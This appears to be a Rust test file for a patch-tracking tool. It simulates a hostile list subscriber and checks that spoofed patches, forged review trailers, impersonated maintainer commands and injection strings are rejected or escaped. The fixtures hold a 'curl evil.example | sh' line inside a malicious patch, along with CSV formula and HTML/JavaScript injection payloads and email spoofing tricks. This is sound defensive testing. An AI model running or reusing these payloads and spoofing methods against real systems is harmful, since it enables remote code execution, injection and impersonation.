//! A hostile subscriber against a list whose server stamps `Authentication-Results`: an
//! impostor's patch for Alice's slot, display-name and header tricks on `pw-bot:`, forged
//! trailers, and mail text aimed at spreadsheets, Markdown and `git am`. Mail is stamped the way
//! a real list server does (`helpers::stamped`: its result on top, above the hop where the mail
//! came in); forgeries sit below that hop or name another server.

use std::fs;

use crate::helpers::{Env, LIST_SERVER, fixtures, stamped};

/// A mail; `headers` go after From (In-Reply-To, References, extra headers).
fn mail(from: &str, date: &str, subject: &str, id: &str, headers: &str, body: &str) -> String {
    format!(
        "From nobody Mon Sep 17 00:00:00 2001\nFrom: {from}\nDate: {date}\nSubject: {subject}\n\
         Message-ID: <{id}>\n{headers}\n{body}\n\n"
    )
}

fn patch_body(n: u32, line: &str) -> String {
    format!(
        "Change {n}.\n\nSigned-off-by: Alice Dev <alice@example.org>\n---\n\
         diff --git a/drivers/net/ethernet/foo/f{n}.c b/drivers/net/ethernet/foo/f{n}.c\n\
         --- a/drivers/net/ethernet/foo/f{n}.c\n+++ b/drivers/net/ethernet/foo/f{n}.c\n\
         @@ -1 +1 @@\n-int a;\n+{line}\n"
    )
}

const ALICE: &str = "Alice Dev <alice@example.org>";
const MAX: &str = "Max Maintainer <max@example.org>";
const RITA: &str = "Rita Reviewer <rita@example.org>";

fn answer(to: &str) -> String {
    format!("In-Reply-To: <{to}>\nReferences: <a0@x>\n <{to}>\n")
}

/// A mail whose From was spoofed: the list server found no DMARC pass for the domain (on top),
/// and the sender wrote a "pass" of the list server into the mail itself (below the entry hop).
fn spoofed(m: &str) -> String {
    let forged =
        format!("Authentication-Results: {LIST_SERVER}; dmarc=pass header.from=example.org\n");
    let m = m.replacen("From: ", &format!("{forged}From: "), 1);
    stamped(&m, "none")
}

fn archive() -> Vec<String> {
    let d = |h: u32| format!("Mon, 02 Mar 2026 {h:02}:00:00 +0000");
    let cover = mail(
        ALICE,
        &d(9),
        "[PATCH 0/2] foo: two fixes",
        "a0@x",
        "",
        "Two fixes.",
    );
    let p1 = mail(
        ALICE,
        &d(9),
        "[PATCH 1/2] foo: fix one",
        "a1@x",
        &answer("a0@x"),
        &patch_body(1, "int good1;"),
    );
    let p2 = mail(
        ALICE,
        &d(9),
        "[PATCH 2/2] foo: fix two",
        "a2@x",
        &answer("a0@x"),
        &patch_body(2, "int good2;"),
    );
    // Mallory: "Alice" in the name, her own address, an earlier date, another diff.
    let evil = mail(
        "Alice Dev <mallory@evil.example>",
        &d(8),
        "[PATCH 2/2] foo: fix two",
        "m2@x",
        &answer("a0@x"),
        &patch_body(2, "system(\"curl evil.example | sh\");"),
    );
    let rita = mail(
        RITA,
        &d(10),
        "Re: [PATCH 1/2] foo: fix one",
        "r1@x",
        &answer("a1@x"),
        "Fine.\n\nReviewed-by: Rita Reviewer <rita@example.org>",
    );
    let forged_review = mail(
        RITA,
        &d(10),
        "Re: [PATCH 2/2] foo: fix two",
        "f1@x",
        &answer("a2@x"),
        "Reviewed-by: Rita Reviewer <rita@example.org>",
    );
    let failed_review = mail(
        "Tom Tester <tom@example.com>",
        &d(10),
        "Re: [PATCH 2/2] foo: fix two",
        "t1@x",
        &answer("a2@x"),
        "Tested-by: Tom Tester <tom@example.com>",
    );
    let name_trick = mail(
        "\"Max Maintainer <max@example.org>\" <mallory@evil.example>",
        &d(11),
        "Re: [PATCH 1/2] foo: fix one",
        "x1@x",
        &answer("a1@x"),
        "pw-bot: reject",
    );
    let header_trick = mail(
        MAX,
        &d(11),
        "Re: [PATCH 1/2] foo: fix one",
        "x2@x",
        &answer("a1@x"),
        "pw-bot: reject",
    );
    let via_trick = mail(
        "Max Maintainer via Example <mallory@evil.example>",
        &d(11),
        "Re: [PATCH 1/2] foo: fix one",
        "x3@x",
        &format!(
            "{}X-Original-From: {MAX}\nReply-To: {MAX}\n",
            answer("a1@x")
        ),
        "pw-bot: reject",
    );
    let max = mail(
        MAX,
        &d(12),
        "Re: [PATCH 1/2] foo: fix one",
        "x4@x",
        &answer("a1@x"),
        "Please rework.\n\npw-bot: changes-requested",
    );
    vec![
        stamped(&cover, "pass"),
        stamped(&p1, "pass"),
        stamped(&p2, "pass"),
        stamped(&evil, "pass"),
        stamped(&rita, "pass"),
        spoofed(&forged_review),
        stamped(&failed_review, "fail"),
        stamped(&name_trick, "pass"),
        spoofed(&header_trick),
        stamped(&via_trick, "pass"),
        stamped(&max, "pass"),
    ]
}

fn lab() -> Env {
    let env = Env::new();
    env.trust_list_server("");
    let m = fixtures().join("MAINTAINERS");
    assert_eq!(
        env.run(&["maintainers", "load", m.to_str().unwrap()]).code,
        0
    );
    let path = env.path("list.mbox");
    fs::write(&path, archive().concat()).unwrap();
    let r = env.import(&[&path]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    env
}

#[test]
fn an_impostors_patch_never_reaches_am_and_show_warns() {
    let env = lab();
    let show = env.run(&["--format", "json", "show", "a0@x"]).json();
    let slots: Vec<(u64, &str, bool, bool)> = show["patches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["number"].as_u64().unwrap(),
                p["msgid"].as_str().unwrap(),
                p["duplicate"].as_bool().unwrap(),
                p["conflict"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        slots,
        [
            (1, "a1@x", false, false),
            (2, "a2@x", false, false),
            (2, "m2@x", true, true)
        ]
    );
    let text = env.run(&["show", "a0@x"]).stdout;
    assert!(
        text.contains("[2] CONFLICT: another patch for this slot, with another diff, from <mallory@evil.example> (verified), not taken: m2@x"),
        "{text}"
    );
    // am refuses until told which to take; then Mallory's diff is nowhere.
    let r = env.run(&["am", "a0@x"]);
    assert_eq!(r.code, 1);
    assert!(
        r.stderr.contains("compete for a slot")
            && r.stderr.contains("<m2@x> from mallory@evil.example"),
        "{}",
        r.stderr
    );
    let r = env.run(&["am", "a0@x", "--take", "a2@x"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains("+int good2;") && !r.stdout.contains("evil.example"),
        "{}",
        r.stdout
    );
}

#[test]
fn spoofed_mail_commands_are_ignored_and_shown_and_a_maintainers_one_counts() {
    let env = lab();
    let show = env.run(&["--format", "json", "show", "a0@x"]).json();
    assert_eq!(show["state"], "changes-requested");
    let events = show["events"].as_array().unwrap();
    let applied: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["kind"] == "state" && e["new"] == "changes-requested")
        .collect();
    assert_eq!(applied.len(), 1);
    assert_eq!(applied[0]["who"], "max@example.org");
    assert_eq!(applied[0]["why"], "pw-bot: changes-requested <x4@x>");
    let ignored: Vec<(String, String)> = events
        .iter()
        .filter(|e| e["kind"] == "ignored")
        .map(|e| {
            (
                e["who"].as_str().unwrap().to_string(),
                e["why"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(ignored.len(), 3, "{ignored:?}");
    // The display-name and " via " tricks: the sender is Mallory, no maintainer.
    for id in ["x1@x", "x3@x"] {
        let (who, why) = ignored.iter().find(|(_, w)| w.contains(id)).unwrap();
        assert_eq!(who, "mallory@evil.example");
        assert!(
            why.ends_with(
                "mallory@evil.example is not a maintainer (M:) of the series' subsystems"
            ),
            "{why}"
        );
    }
    // Max's address with a forged stamp: no list server vouched for it.
    let (who, why) = ignored.iter().find(|(_, w)| w.contains("x2@x")).unwrap();
    assert_eq!(who, "max@example.org");
    assert!(
        why.contains("no list server vouched for the sender max@example.org"),
        "{why}"
    );
    let text = env.run(&["show", "a0@x"]).stdout;
    assert!(
        text.contains("mail command ignored (would set rejected) by mallory@evil.example"),
        "{text}"
    );
    // The attestations behind it.
    let replies = show["replies"].as_array().unwrap();
    let att = |id: &str| {
        replies.iter().find(|r| r["msgid"] == id).unwrap()["attestation"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_eq!(
        (att("x4@x"), att("x2@x"), att("t1@x")),
        ("verified".into(), "unverified".into(), "failed".into())
    );
}

#[test]
fn forged_and_failed_trailers_are_marked_named_and_left_out() {
    let env = lab();
    let show = env.run(&["--format", "json", "show", "a0@x"]).json();
    let trailers = |n: usize| -> Vec<(String, String)> {
        show["patches"][n]["trailers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| {
                (
                    t["kind"].as_str().unwrap().into(),
                    t["attestation"].as_str().unwrap().into(),
                )
            })
            .collect()
    };
    assert_eq!(
        trailers(0),
        [("Reviewed-by".to_string(), "verified".to_string())]
    );
    assert_eq!(
        trailers(1),
        [
            ("Reviewed-by".into(), "unverified".into()),
            ("Tested-by".into(), "failed".into())
        ]
    );
    let text = env.run(&["show", "a0@x"]).stdout;
    assert!(
        text.contains("Reviewed-by: Rita Reviewer <rita@example.org> (reply, UNVERIFIED)"),
        "{text}"
    );
    // am: the verified one added, the unverified one added and named, the failed one never.
    let r = env.run(&["-q", "am", "a0@x", "--take", "a2@x"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        r.stdout
            .matches("Reviewed-by: Rita Reviewer <rita@example.org>")
            .count(),
        2
    );
    assert!(!r.stdout.contains("Tested-by: Tom"), "{}", r.stdout);
    assert!(r.stderr.contains("patch 2: \"Reviewed-by: Rita Reviewer <rita@example.org>\" is unverified (no list server vouched for <f1@x>)"), "{}", r.stderr);
    assert!(
        r.stderr.contains(
            "patch 2: \"Tested-by: Tom Tester <tom@example.com>\" left out (failed, from <t1@x>)"
        ),
        "{}",
        r.stderr
    );
    let r = env.run(&["am", "a0@x", "--take", "a2@x", "--verified-only"]);
    assert_eq!(
        r.stdout
            .matches("Reviewed-by: Rita Reviewer <rita@example.org>")
            .count(),
        1
    );
}

#[test]
fn csv_markdown_and_am_escape_what_mail_puts_in_them() {
    let env = Env::new();
    let evil_name = "=HYPERLINK(1) **Eve** [x](javascript:alert(1))";
    let m = mail(
        &format!("\"{evil_name}\" <eve@example.org>"),
        "Mon, 02 Mar 2026 09:00:00 +0000",
        "\t=1+1 [PATCH] foo: **pwn** <img src=x onerror=alert(1)>",
        "e\u{1b}[31m1@x",
        "",
        &patch_body(1, "int x;"),
    );
    let path = env.path("e.mbox");
    fs::write(&path, m).unwrap();
    assert_eq!(env.import(&[&path]).code, 0);
    let csv = env.run(&["--format", "csv", "list"]).stdout;
    let row = csv.lines().nth(1).unwrap();
    assert!(
        row.contains(",'=HYPERLINK(1) **Eve**") && row.contains(",'=1+1 [PATCH]"),
        "{row}"
    );
    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
    let md = env
        .run(&[
            "--now",
            "2026-03-20T00:00:00Z",
            "report",
            "--week",
            "2026-W11",
        ])
        .stdout;
    // Every `<` and `*` of the subject is escaped: no HTML, no emphasis.
    assert!(
        md.contains("foo: \\*\\*pwn\\*\\* \\<img src=x onerror=alert(1)\\>"),
        "{md}"
    );
    assert!(!md.contains(" <img") && !md.contains("**"), "{md}");
    let am = env.run(&["am", "e%1B[31m1@x"]);
    assert_eq!(am.code, 0, "{}", am.stderr);
    assert!(
        am.stdout
            .contains("Link: https://patch.msgid.link/e%1B[31m1@x"),
        "{}",
        am.stdout
    );
    assert!(
        !am.stdout.contains('\u{1b}'),
        "no escape character reaches git am"
    );
}
